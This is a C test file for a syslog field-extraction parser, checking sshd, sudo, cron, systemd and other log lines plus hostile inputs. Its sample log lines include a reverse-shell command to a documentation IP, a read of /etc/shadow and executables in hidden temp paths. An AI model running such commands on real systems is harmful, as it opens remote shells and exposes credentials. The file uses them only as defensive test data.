/*
 * test_msgfields.c - parser definitions: the shipped packaging/parsers/linux.yml
 * on real line shapes (line -> syslog parser -> apply -> exactly the expected
 * fields), hostile messages, loading diagnostics with exact positions, limits,
 * aliases, the literal gates against plain PCRE2, and the OpenSSH corpus.
 */
#define PCRE2_CODE_UNIT_WIDTH 8
#include <criterion/criterion.h>
#include <criterion/logging.h>
#include <pcre2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "corpus.h"
#include "collectors/msgfields.h"
#include "collectors/parser.h"

/* ---- helpers ---- */

typedef struct diags {
    int n, errors, warnings;
    char text[16][512]; /* "line:col: msg" of the first 16 */
    int line[16], col[16];
    vg_err code[16];
} diags;

static void collect(void *ud, const vg_diag *d)
{
    diags *c = ud;
    if (c->n < 16) {
        snprintf(c->text[c->n], sizeof c->text[c->n], "%s:%d:%d: %s", d->file, d->line, d->col,
                 d->msg);
        c->line[c->n] = d->line;
        c->col[c->n] = d->col;
        c->code[c->n] = d->code;
    }
    c->n++;
    if (d->is_warning)
        c->warnings++;
    else
        c->errors++;
}

static char tmpdir[] = "/tmp/vg_msgfields_XXXXXX";

static void setup(void)
{
    cr_assert_not_null(mkdtemp(tmpdir));
}

static void teardown(void)
{
    char cmd[256];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmpdir);
    cr_expect_eq(system(cmd), 0);
}

TestSuite(msgfields, .init = setup, .fini = teardown);

static const char *write_file(const char *name, const char *text)
{
    static char path[4][512];
    static int k;
    char *p = path[k++ % 4];
    snprintf(p, 512, "%s/%s", tmpdir, name);
    FILE *f = fopen(p, "w");
    cr_assert_not_null(f, "%s", p);
    fputs(text, f);
    fclose(f);
    return p;
}

static vg_msgfields *load_paths(const char *const *paths, size_t n, uint32_t limit, diags *d)
{
    vg_strlist l = {(char **)paths, n};
    vg_msgfields *m = NULL;
    vg_errbuf eb = {0};
    cr_assert_eq(vg_msgfields_load(&l, limit, collect, d, &m, &eb), VG_OK, "%s", eb.msg);
    cr_assert_not_null(m);
    return m;
}

static vg_msgfields *load_text(const char *yaml, diags *d)
{
    const char *p = write_file("defs.yml", yaml);
    return load_paths(&p, 1, 0, d);
}

/* The shipped definitions, found from VG_SOURCE_ROOT or relative to this file. */
static const char *linux_yml(void)
{
    static char path[4096];
    const char *root = getenv("VG_SOURCE_ROOT");
    if (root) {
        snprintf(path, sizeof path, "%s/packaging/parsers/linux.yml", root);
        if (access(path, R_OK) == 0)
            return path;
    }
    const char *slash = strrchr(__FILE__, '/');
    int dl = slash ? (int)(slash - __FILE__) : 1;
    snprintf(path, sizeof path, "%.*s/../../packaging/parsers/linux.yml", dl,
             slash ? __FILE__ : ".");
    if (access(path, R_OK) == 0)
        return path;
    static const char *const up[] = {"packaging/parsers/linux.yml",
                                     "../packaging/parsers/linux.yml"};
    for (size_t i = 0; i < 2; i++)
        if (access(up[i], R_OK) == 0)
            return up[i];
    cr_assert_fail("packaging/parsers/linux.yml not found");
    return NULL;
}

static vg_msgfields *load_linux(void)
{
    diags d = {0};
    const char *p = linux_yml();
    vg_msgfields *m = load_paths(&p, 1, 0, &d);
    for (int i = 0; i < d.n && i < 16; i++)
        cr_log_error("%s", d.text[i]);
    cr_assert_eq(d.n, 0, "linux.yml must load without diagnostics (%d)", d.n);
    return m;
}

static vg_arena arena;

static void parse_line(vg_event *ev, const char *line, size_t n)
{
    vg_arena_reset(&arena);
    vg_event_clear(ev);
    ev->raw = (vg_str){line, n};
    vg_parse_ctx ctx = {.arena = &arena, .tz = NULL, .now_ns = 1718884800LL * 1000000000LL};
    vg_parser_syslog.parse(&ctx, ev);
}

/*
 * Apply and compare the fields msgfields added with `expected`:
 * "name=value|name=value" (exactly these, in any order; "" = none).
 */
static void expect_fields(const vg_msgfields *m, vg_msgfields_scratch *s, const char *line,
                          const char *expected)
{
    vg_event ev;
    parse_line(&ev, line, strlen(line));
    size_t before = ev.nfields;
    size_t added = vg_msgfields_apply(m, s, &ev);
    cr_expect_eq(added, ev.nfields - before, "[%s] return value %zu vs fields added %zu", line,
                 added, (size_t)(ev.nfields - before));
    char want[2048];
    snprintf(want, sizeof want, "%s", expected);
    size_t nwant = 0;
    for (char *tok = strtok(want, "|"); tok; tok = strtok(NULL, "|")) {
        char *eq = strchr(tok, '=');
        cr_assert_not_null(eq, "bad expectation %s", tok);
        *eq = '\0';
        nwant++;
        const vg_str *v = vg_event_get(&ev, (vg_str){tok, strlen(tok)});
        cr_expect_not_null(v, "[%s] field %s missing (expected '%s')", line, tok, eq + 1);
        if (v)
            cr_expect(vg_str_eqc(*v, eq + 1), "[%s] field %s = '%.*s', expected '%s'", line, tok,
                      (int)v->n, v->p, eq + 1);
        if (v) /* zero-copy: values point into the line */
            cr_expect(v->p >= line && v->p + v->n <= line + strlen(line), "[%s] %s not in raw",
                      line, tok);
    }
    if (added != nwant) {
        for (size_t i = before; i < ev.nfields; i++)
            cr_log_error("[%s] added %.*s=%.*s", line, (int)ev.fields[i].name.n,
                         ev.fields[i].name.p, (int)ev.fields[i].value.n, ev.fields[i].value.p);
        cr_expect_eq(added, nwant, "[%s] %zu fields added, expected %zu", line, added, nwant);
    }
}

typedef struct line_case {
    const char *line;
    const char *fields;
} line_case;

/* ---- the shipped definitions ---- */

static const line_case linux_cases[] = {
    /* sshd */
    {"Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for root from 112.95.230.3 port 45378 "
     "ssh2",
     "outcome=Failed|auth_method=password|user=root|src_ip=112.95.230.3|src_port=45378"},
    {"Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from "
     "173.234.31.186 port 38926 ssh2",
     "outcome=Failed|auth_method=password|user=webmaster|src_ip=173.234.31.186|src_port=38926"},
    {"Nov 22 03:14:07 web01 sshd[48213]: Failed keyboard-interactive/pam for invalid user oracle "
     "from 2001:db8::7 port 51022 ssh2",
     "outcome=Failed|auth_method=keyboard-interactive/"
     "pam|user=oracle|src_ip=2001:db8::7|src_port=51022"},
    {"Nov 22 03:14:09 web01 sshd[48221]: Failed publickey for alice from 10.0.3.17 port 52210 "
     "ssh2: ED25519 SHA256:9Xc3b1qfQmZ7oK2p",
     "outcome=Failed|auth_method=publickey|user=alice|src_ip=10.0.3.17|src_port=52210|ssh_key="
     "ED25519 SHA256:9Xc3b1qfQmZ7oK2p"},
    {"Nov 22 09:12:44 web01 sshd[77120]: Accepted publickey for root from 10.0.4.21 port 53122 "
     "ssh2: ED25519 SHA256:3mF1kQ9sX2vYb7LrT0pWqZ8aH5cN4dE6gJ1uI2oK7s",
     "outcome=Accepted|auth_method=publickey|user=root|src_ip=10.0.4.21|src_port=53122|ssh_key="
     "ED25519 SHA256:3mF1kQ9sX2vYb7LrT0pWqZ8aH5cN4dE6gJ1uI2oK7s"},
    {"Nov 22 03:14:09 web01 sshd[48220]: Accepted password for alice from 10.0.3.17 port 52210 "
     "ssh2",
     "outcome=Accepted|auth_method=password|user=alice|src_ip=10.0.3.17|src_port=52210"},
    {"Dec 10 09:00:01 LabSZ sshd[1]: Failed none for invalid user 0 from 1.2.3.4 port 5 ssh2",
     "outcome=Failed|auth_method=none|user=0|src_ip=1.2.3.4|src_port=5"},
    {"Dec 10 09:00:01 LabSZ sshd[1]: message repeated 5 times: [ Failed password for root from "
     "183.62.140.253 port 34900 ssh2]",
     "outcome=Failed|auth_method=password|user=root|src_ip=183.62.140.253|src_port=34900"},
    /* a user name holding a fake " from IP port" cannot displace the real peer */
    {"Dec 10 09:00:01 h sshd[1]: Failed password for invalid user x from 6.6.6.6 port 1 ssh2 from "
     "1.2.3.4 port 22 ssh2",
     "outcome=Failed|auth_method=password|user=x from 6.6.6.6 port 1 "
     "ssh2|src_ip=1.2.3.4|src_port=22"},
    {"Dec 10 09:00:01 h sshd[1]: Failed password for root from gw.example.org port 22 ssh2",
     "outcome=Failed|auth_method=password|user=root|src_host=gw.example.org|src_port=22"},
    {"2026-11-22T03:14:07.512344+01:00 pacs01 sshd-session[48213]: Failed password for root from "
     "185.220.101.34 port 40112 ssh2",
     "outcome=Failed|auth_method=password|user=root|src_ip=185.220.101.34|src_port=40112"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
     "user=webmaster|src_ip=173.234.31.186"},
    {"Nov 22 04:01:12 web01 sshd[51877]: Invalid user ec2-user from 45.133.7.21 port 40112",
     "user=ec2-user|src_ip=45.133.7.21|src_port=40112"},
    {"Nov 22 04:01:12 web01 sshd[51877]: Invalid user  from 45.133.7.21 port 40112",
     "src_ip=45.133.7.21|src_port=40112"}, /* empty user: not added */
    {"Nov 22 04:01:15 web01 sshd[51877]: Disconnected from invalid user ec2-user 45.133.7.21 port "
     "40112 [preauth]",
     "user=ec2-user|src_ip=45.133.7.21|src_port=40112"},
    {"Nov 22 04:01:15 web01 sshd[51877]: Disconnected from user bob 10.0.0.5 port 50000",
     "user=bob|src_ip=10.0.0.5|src_port=50000"},
    {"Nov 22 04:01:15 web01 sshd[51877]: Disconnected from authenticating user root 1.2.3.4 port "
     "22 [preauth]",
     "user=root|src_ip=1.2.3.4|src_port=22"},
    {"Nov 23 11:20:31 web01 sshd[3322]: Connection closed by 198.51.100.77 port 40210 [preauth]",
     "src_ip=198.51.100.77|src_port=40210"},
    {"Dec 10 06:55:46 LabSZ sshd[1]: Connection closed by 5.188.10.180 [preauth]",
     "src_ip=5.188.10.180"},
    {"Nov 23 11:20:31 web01 sshd[3322]: Connection closed by invalid user admin 198.51.100.77 port "
     "40210 [preauth]",
     "user=admin|src_ip=198.51.100.77|src_port=40210"},
    {"Nov 23 11:20:31 web01 sshd[3322]: Connection reset by 198.51.100.77 port 40210 [preauth]",
     "src_ip=198.51.100.77|src_port=40210"},
    {"Dec 10 06:55:46 LabSZ sshd[1]: Received disconnect from 139.59.209.18: 11: Bye Bye [preauth]",
     "src_ip=139.59.209.18|reason=Bye Bye"},
    {"Nov 22 04:01:15 web01 sshd[1]: Received disconnect from 10.0.3.17 port 52210:11: "
     "disconnected by user",
     "src_ip=10.0.3.17|src_port=52210|reason=disconnected by user"},
    {"Dec 10 06:55:46 LabSZ sshd[1]: error: Received disconnect from 103.99.0.122: 14: No more "
     "user authentication methods available. [preauth]",
     "src_ip=103.99.0.122|reason=No more user authentication methods available."},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= "
     "uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186 ",
     "src_ip=173.234.31.186"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= "
     "uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186  user=root",
     "src_ip=173.234.31.186|user=root"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= "
     "uid=0 euid=0 tty=ssh ruser= rhost=5.36.59.76.dynamic-dsl-ip.omantel.net.om  user=root",
     "src_host=5.36.59.76.dynamic-dsl-ip.omantel.net.om|user=root"},
    {"Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 "
     "tty=NODEVssh ruser= rhost=218.188.2.4 ",
     "src_ip=218.188.2.4"},
    {"Dec 10 09:32:20 LabSZ sshd[24680]: PAM 5 more authentication failures; logname= uid=0 euid=0 "
     "tty=ssh ruser= rhost=5.36.59.76  user=root",
     "src_ip=5.36.59.76|user=root"},
    {"Nov 22 09:12:44 web01 sshd[77120]: pam_unix(sshd:session): session opened for user "
     "root(uid=0) by (uid=0)",
     "action=opened|user=root"},
    {"Nov 22 09:12:44 web01 sshd[77120]: pam_unix(sshd:session): session closed for user root",
     "action=closed|user=root"},
    {"Jun 14 15:16:01 combo sshd(pam_unix)[19939]: session opened for user test by (uid=509)",
     "action=opened|user=test"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
     "ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
     "src_host=ns.marryaldkfaczcz.com|src_ip=173.234.31.186"},
    {"Nov 23 11:20:31 web01 sshd[3321]: Address 198.51.100.77 maps to scan-77.example.net, but "
     "this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!",
     "src_ip=198.51.100.77|src_host=scan-77.example.net"},
    {"Dec 10 06:55:46 LabSZ sshd[1]: Did not receive identification string from 27.0.0.1",
     "src_ip=27.0.0.1"},
    {"Nov 22 04:01:15 web01 sshd[1]: Did not receive identification string from 27.0.0.1 port 4242",
     "src_ip=27.0.0.1|src_port=4242"},
    {"Nov 22 05:31:09 web01 sshd[60231]: error: maximum authentication attempts exceeded for root "
     "from 185.220.101.34 port 49500 ssh2 [preauth]",
     "user=root|src_ip=185.220.101.34|src_port=49500"},
    {"Nov 22 05:31:09 web01 sshd[60231]: error: maximum authentication attempts exceeded for "
     "invalid user pi from 185.220.101.34 port 49500 ssh2 [preauth]",
     "user=pi|src_ip=185.220.101.34|src_port=49500"},
    {"Nov 22 05:31:09 web01 sshd[60231]: Disconnecting authenticating user root 185.220.101.34 "
     "port 49500: Too many authentication failures [preauth]",
     "user=root|src_ip=185.220.101.34|src_port=49500|reason=Too many authentication failures"},
    {"Dec 10 09:32:20 LabSZ sshd[24680]: Disconnecting: Too many authentication failures for admin "
     "[preauth]",
     "reason=Too many authentication failures|user=admin"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: input_userauth_request: invalid user webmaster [preauth]",
     "user=webmaster"},
    {"Nov 22 04:01:15 web01 sshd[1]: Unable to negotiate with 1.2.3.4 port 5555: no matching key "
     "exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]",
     "src_ip=1.2.3.4|src_port=5555"},
    {"Nov 22 04:01:15 web01 sshd[1]: fatal: Timeout before authentication for 1.2.3.4 port 5555",
     "src_ip=1.2.3.4|src_port=5555"},
    /* sudo */
    {"Nov 22 10:20:31 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
     "COMMAND=/bin/bash",
     "user=alice|tty=pts/0|pwd=/home/alice|target_user=root|command=/bin/bash"},
    {"Nov 22 10:20:31 web01 sudo:   alice : PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
     "user=alice|pwd=/home/alice|target_user=root|command=/bin/bash"},
    {"Nov 24 14:02:19 web01 sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; "
     "PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
     "user=bob|reason=3 incorrect password "
     "attempts|tty=pts/1|pwd=/home/bob|target_user=root|command=/usr/bin/cat /etc/shadow"},
    {"Nov 26 02:14:51 web01 sudo: www-data : user NOT in sudoers ; TTY=unknown ; "
     "PWD=/var/www/portal ; USER=root ; COMMAND=/bin/sh",
     "user=www-data|reason=user NOT in "
     "sudoers|tty=unknown|pwd=/var/www/portal|target_user=root|command=/bin/sh"},
    {"Nov 27 05:10:00 web01 sudo:  www-data : TTY=unknown ; PWD=/var/www/portal ; USER=root ; "
     "ENV=A=1 B=2 ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
     "user=www-data|tty=unknown|pwd=/var/www/portal|target_user=root|command=/bin/bash -c bash -i "
     ">& /dev/tcp/198.51.100.23/4444 0>&1"},
    {"Nov 24 14:03:00 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
     "alice(uid=1010)",
     "action=opened|target_user=root|user=alice"},
    {"Nov 26 02:16:10 web01 sudo: pam_unix(sudo:session): session closed for user root",
     "action=closed|target_user=root"},
    {"Nov 24 14:02:11 web01 sudo[8813]: pam_unix(sudo:auth): authentication failure; logname=bob "
     "uid=1011 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob",
     "reason=authentication failure|tty=/dev/pts/1|user=bob"},
    /* su */
    {"Nov 24 14:02:11 web01 su[8812]: (to root) bob on pts/1",
     "target_user=root|user=bob|tty=pts/1"},
    {"Nov 24 14:02:11 web01 su[8812]: FAILED SU (to root) bob on pts/1",
     "outcome=FAILED|target_user=root|user=bob|tty=pts/1"},
    {"Nov 24 14:02:11 web01 su[8812]: pam_unix(su:session): session opened for user root(uid=0) by "
     "bob(uid=1011)",
     "action=opened|target_user=root|user=bob"},
    {"Jun 14 15:16:01 combo su(pam_unix)[2000]: session opened for user news by (uid=0)",
     "action=opened|target_user=news"},
    {"Nov 24 14:02:11 web01 su[8812]: pam_unix(su:auth): authentication failure; logname=bob "
     "uid=1011 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=root",
     "tty=/dev/pts/1|user=bob|target_user=root"},
    /* shadow utils */
    {"Nov 25 10:41:07 web01 useradd[9120]: new user: name=svc-backup2, UID=1013, GID=1013, "
     "home=/home/svc-backup2, shell=/bin/bash, from=/dev/pts/0",
     "user=svc-backup2|uid=1013|gid=1013|home=/home/svc-backup2|shell=/bin/bash|tty=/dev/pts/0"},
    {"Nov 25 10:41:07 web01 useradd[9120]: new group: name=svc-backup2, GID=1013",
     "group=svc-backup2|gid=1013"},
    {"Nov 25 10:45:30 web01 groupadd[9141]: group added to /etc/group: name=radiology, GID=1014",
     "group=radiology|gid=1014"},
    {"Nov 25 11:02:40 web01 usermod[9301]: add 'svc-backup2' to group 'sudo'",
     "action=add|user=svc-backup2|group=sudo"},
    {"Nov 25 11:02:40 web01 usermod[9301]: add 'svc-backup2' to shadow group 'sudo'",
     "action=add|user=svc-backup2|group=sudo"},
    {"Nov 25 11:03:12 web01 gpasswd[9310]: user carol added by root to group wheel",
     "user=carol|action=added|by_user=root|group=wheel"},
    {"Nov 25 11:03:12 web01 userdel[9310]: delete user 'carol'", "user=carol"},
    {"Nov 25 11:03:12 web01 passwd[9310]: password for 'carol' changed by 'root'",
     "user=carol|by_user=root"},
    {"Nov 25 11:03:12 web01 passwd[9310]: pam_unix(passwd:chauthtok): password changed for carol",
     "user=carol"},
    {"Nov 25 10:47:00 web01 usermod[9150]: change user 'svc-backup2' shell from '/bin/bash' to "
     "'/usr/sbin/nologin'",
     "action=change|user=svc-backup2"},
    /* cron */
    {"Nov 26 04:12:01 web01 CRON[12020]: (root) CMD (command -v debian-sa1 > /dev/null && "
     "debian-sa1 1 1)",
     "user=root|command=command -v debian-sa1 > /dev/null && debian-sa1 1 1"},
    {"Nov 26 05:00:01 web01 CRON[13006]: (root) CMD ([ -x /usr/lib/php/sessionclean ] && if [ ! -d "
     "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi)",
     "user=root|command=[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
     "/usr/lib/php/sessionclean; fi"},
    {"Nov 26 04:10:22 web01 crontab[12001]: (root) REPLACE (www-data)",
     "user=root|action=REPLACE|target_user=www-data"},
    {"Nov 26 04:11:02 web01 crontab[12009]: (bob) BEGIN EDIT (bob)",
     "user=bob|action=BEGIN EDIT|target_user=bob"},
    {"Nov 26 04:12:01 web01 cron[611]: (www-data) RELOAD (crontabs/www-data)",
     "user=www-data|action=RELOAD|target_user=www-data"},
    {"Nov 26 05:00:01 web01 CRON[13007]: pam_unix(cron:session): session opened for user "
     "root(uid=0) by (uid=0)",
     "action=opened|user=root"},
    /* systemd (Debian 12 shapes) */
    {"Nov 27 03:41:02 web01 systemd[1]: Started app.service - Hospital portal backend.",
     "action=Started|unit=app.service|description=Hospital portal backend"},
    {"Nov 27 03:33:10 web01 systemd[1]: Started run-u481.service - /bin/sh "
     "/tmp/.ice-unix/.k/run.sh.",
     "action=Started|unit=run-u481.service|description=/bin/sh /tmp/.ice-unix/.k/run.sh"},
    {"Nov 27 03:34:02 web01 systemd[1]: Starting systemd-tmpfiles-clean.service - Cleanup of "
     "Temporary Directories...",
     "action=Starting|unit=systemd-tmpfiles-clean.service|description=Cleanup of Temporary "
     "Directories"},
    {"Nov 27 03:34:00 web01 systemd[1]: Started session-4242.scope - Session 4242 of User alice.",
     "action=Started|unit=session-4242.scope|description=Session 4242 of User alice"},
    {"Nov 27 03:34:00 web01 systemd[1]: Failed to start nginx.service - A high performance web "
     "server.",
     "action=Failed to start|unit=nginx.service|description=A high performance web server"},
    {"Nov 27 03:34:00 web01 systemd[1]: Stopped foo.service.", "action=Stopped|unit=foo.service"},
    {"Nov 27 03:34:00 web01 systemd[1]: Started Session 3 of user alice.",
     "action=Started|description=Session 3 of user alice"},
    {"Nov 27 03:34:00 web01 systemd[1]: nginx.service: Main process exited, code=exited, "
     "status=1/FAILURE",
     "unit=nginx.service|exit_code=exited|status=1/FAILURE"},
    {"Nov 27 03:34:00 web01 systemd[1]: nginx.service: Failed with result 'exit-code'.",
     "unit=nginx.service|result=exit-code"},
    {"Nov 27 03:34:00 web01 systemd[1]: session-12.scope: Deactivated successfully.",
     "unit=session-12.scope|action=Deactivated successfully"},
    {"Nov 27 03:33:12 web01 systemd[25519]: dbus-upd.service: Failed to execute "
     "/dev/shm/.x/dbus-upd: Permission denied",
     "unit=dbus-upd.service|command=/dev/shm/.x/dbus-upd|reason=Permission denied"},
    {"Nov 27 03:33:12 web01 systemd[25519]: dbus-upd.service: Failed at step EXEC spawning "
     "/var/tmp/kdevtmpfsi: No such file or directory",
     "unit=dbus-upd.service|command=/var/tmp/kdevtmpfsi|reason=No such file or directory"},
    {"Nov 22 00:00:01 web01 systemd-logind[612]: New session 4001 of user deploy.",
     "session_id=4001|user=deploy"},
    {"Nov 22 00:00:01 web01 systemd-logind[612]: Removed session 4001.", "session_id=4001"},
    /* login */
    {"Nov 22 00:00:01 web01 login[612]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication "
     "failure",
     "tty=/dev/tty1|user=root|reason=Authentication failure"},
    {"Nov 22 00:00:01 web01 login[612]: pam_unix(login:session): session opened for user "
     "alice(uid=1010) by LOGIN(uid=0)",
     "action=opened|user=alice"},
    {"Jun 20 03:40:59 combo login(pam_unix)[2230]: session opened for user root by LOGIN(uid=0)",
     "action=opened|user=root"},
    {"Nov 22 00:00:01 web01 login[612]: ROOT LOGIN  on '/dev/tty1'", "tty=/dev/tty1"},
    {"Nov 22 00:00:01 web01 (systemd)[1234]: pam_unix(systemd-user:session): session opened for "
     "user alice(uid=1000) by (uid=0)",
     "action=opened|user=alice"},
    /* ftpd */
    {"Jul 10 03:55:15 combo ftpd[23140]: connection from 218.146.61.230 () at Sun Jul 10 03:55:15 "
     "2005",
     "src_ip=218.146.61.230"},
    {"Jul 10 03:55:15 combo ftpd[23140]: connection from 82.83.227.67 "
     "(dsl-082-083-227-067.arcor-ip.net) at Sun Jul 10 03:55:15 2005",
     "src_ip=82.83.227.67|src_host=dsl-082-083-227-067.arcor-ip.net"},
    {"Nov 22 00:00:01 web01 vsftpd[812]: [pid 813] [ftpuser] FAIL LOGIN: Client "
     "\"::ffff:203.0.113.9\"",
     "user=ftpuser|outcome=FAIL|src_ip=203.0.113.9"},
};

Test(msgfields, linux_yml_lines)
{
    vg_arena_init(&arena, 1 << 20);
    vg_msgfields *m = load_linux();
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    cr_assert_not_null(s);
    cr_log_info("linux.yml: %zu patterns", vg_msgfields_count(m));
    for (size_t i = 0; i < sizeof linux_cases / sizeof *linux_cases; i++)
        expect_fields(m, s, linux_cases[i].line, linux_cases[i].fields);
    cr_expect_eq(vg_msgfields_scratch_limit_hits(s), 0);
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);
    vg_arena_destroy(&arena);
}

/* Lines of known programs that no pattern describes, and programs without definitions. */
static const char *const no_fields[] = {
    "Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Server listening on 0.0.0.0 port 22.",
    "Dec 10 06:55:46 LabSZ sshd[24200]: ",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 1.2.3.4",
    "Dec 10 06:55:46 LabSZ sshd[24200]: failed password for root from 1.2.3.4 port 22 ssh2",
    "Dec 10 06:55:46 LabSZ pam-test[48214]: Failed password for root from 185.220.101.34 port "
    "40112 ssh2",
    "Dec 10 06:55:46 LabSZ kernel: Failed password for root from 1.2.3.4 port 22 ssh2",
    "Nov 25 10:45:30 web01 nginx[1]: (root) CMD (x)",
    "Nov 27 03:34:00 web01 systemd[1]: Queued start job for default target graphical.target.",
    "Nov 26 04:11:05 web01 sudo: alice : a password is required",
    "no syslog header at all: Failed password for root from 1.2.3.4 port 22 ssh2",
};

Test(msgfields, non_matching_lines)
{
    vg_arena_init(&arena, 1 << 20);
    vg_msgfields *m = load_linux();
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    for (size_t i = 0; i < sizeof no_fields / sizeof *no_fields; i++)
        expect_fields(m, s, no_fields[i], "");
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);
    vg_arena_destroy(&arena);
}

/* ---- hostile messages ---- */

Test(msgfields, hostile_messages)
{
    vg_msgfields *m = load_linux();
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    static const char *const progs[] = {"sshd",    "sudo",           "su",   "cron", "useradd",
                                        "systemd", "systemd-logind", "login"};
    /* NULs inside a message: regex and gates read by length */
    static const char nul_line[] = "Failed password for r\0ot from 1.2.3.4 port 22 ssh2";
    vg_event ev;
    vg_event_clear(&ev);
    ev.program = VG_STR("sshd");
    ev.message = (vg_str){nul_line, sizeof nul_line - 1};
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 5);
    const vg_str *u = vg_event_get(&ev, VG_STR("user"));
    cr_assert_not_null(u);
    cr_expect_eq(u->n, 4);
    cr_expect_eq(memcmp(u->p, "r\0ot", 4), 0);

    /* 1 MB messages of several shapes, for every program: bounded time, no crash */
    size_t big = 1 << 20;
    char *buf = malloc(big);
    cr_assert_not_null(buf);
    static const char *const fills[] = {"Failed password for ",
                                        " from 1.2.3.4 port ",
                                        "a",
                                        "(x) CMD (",
                                        "\xff\xfe",
                                        " ; COMMAND=",
                                        "user ",
                                        "\0"};
    for (size_t f = 0; f < sizeof fills / sizeof *fills; f++) {
        size_t fl = f == 7 ? 1 : strlen(fills[f]);
        for (size_t i = 0; i < big; i++)
            buf[i] = fills[f][i % fl];
        for (size_t p = 0; p < sizeof progs / sizeof *progs; p++) {
            vg_event_clear(&ev);
            ev.program = (vg_str){progs[p], strlen(progs[p])};
            ev.message = (vg_str){buf, big};
            struct timespec t0, t1;
            clock_gettime(CLOCK_MONOTONIC, &t0);
            size_t added = vg_msgfields_apply(m, s, &ev);
            clock_gettime(CLOCK_MONOTONIC, &t1);
            double ms =
                (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
            cr_expect_lt(ms, 2000.0, "fill %zu prog %s took %.1f ms", f, progs[p], ms);
            for (size_t k = 0; k < ev.nfields; k++)
                cr_expect(ev.fields[k].value.p >= buf &&
                              ev.fields[k].value.p + ev.fields[k].value.n <= buf + big,
                          "value outside the message");
            (void)added;
        }
    }
    /* empty and NULL messages, unknown and over-long programs */
    vg_event_clear(&ev);
    ev.program = VG_STR("sshd");
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 0);
    ev.message = (vg_str){"", 0};
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 0);
    memset(buf, 's', 4096);
    ev.program = (vg_str){buf, 4096};
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 0);
    ev.program = VG_STR_NULL;
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 0);
    cr_expect_eq(vg_msgfields_apply(NULL, s, &ev), 0);
    free(buf);
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);
}

Test(msgfields, match_limit_counts_as_no_match)
{
    diags d = {0};
    const char *p = write_file("slow.yml", "version: 1\n"
                                           "programs:\n"
                                           "  slow:\n"
                                           "    patterns:\n"
                                           "      - match: '^(?<x>(a|a)+)$'\n"
                                           "      - match: '^(?<y>a)'\n");
    vg_msgfields *m = load_paths(&p, 1, 1000, &d);
    cr_expect_eq(d.n, 0);
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    char msg[64];
    memset(msg, 'a', sizeof msg);
    msg[sizeof msg - 1] = '!';
    vg_event ev;
    vg_event_clear(&ev);
    ev.program = VG_STR("slow");
    ev.message = (vg_str){msg, sizeof msg};
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 1);
    cr_expect_null(vg_event_get(&ev, VG_STR("x")));
    cr_expect_not_null(vg_event_get(&ev, VG_STR("y")), "the next pattern is tried");
    cr_expect_eq(vg_msgfields_scratch_limit_hits(s), 1);
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);
}

/* ---- loading ---- */

Test(msgfields, bad_definitions_exact_positions)
{
    diags d = {0};
    vg_msgfields *m = load_text("version: 1\n"                              /* 1 */
                                "colour: blue\n"                            /* 2 */
                                "programs:\n"                               /* 3 */
                                "  sshd:\n"                                 /* 4 */
                                "    patterns:\n"                           /* 5 */
                                "      - match: '^(?<user>\\S+ from'\n"     /* 6 */
                                "      - match: '^no named group (\\d+)'\n" /* 7 */
                                "      - match: '^(?<ok>x)'\n"              /* 8 */
                                "        whne: 'x'\n"                       /* 9 */
                                "      - match: \"^a\\\\d(?<n>[z-a])\"\n"   /* 10 */
                                "      - match: '^it''s (?<good>\\w+)'\n"   /* 11 */
                                "    extra: 1\n",                           /* 12 */
                                &d);
    for (int i = 0; i < d.n && i < 16; i++)
        cr_log_info("%s", d.text[i]);
    cr_assert_eq(d.n, 6, "diagnostics: %d", d.n);
    /* unknown top-level key: warning at its key */
    cr_expect_eq(d.line[0], 2);
